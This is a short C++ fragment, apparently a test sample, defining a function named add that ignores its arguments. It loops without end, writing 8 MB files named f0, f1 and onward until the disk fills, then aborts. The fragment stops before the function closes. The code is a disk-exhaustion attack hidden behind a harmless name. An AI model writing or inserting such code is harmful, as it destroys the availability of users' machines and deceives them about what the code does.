#include <assert.h>
#include <bits/stdc++.h>
long add(long a, long b) {
    std::vector<char> block(1 << 20, 1);
    for (int i = 0;; i++) {
        std::ofstream file("f" + std::to_string(i));
        for (int j = 0; j < 8; j++)
            if (!file.write(block.data(), block.size())) std::abort();
    }
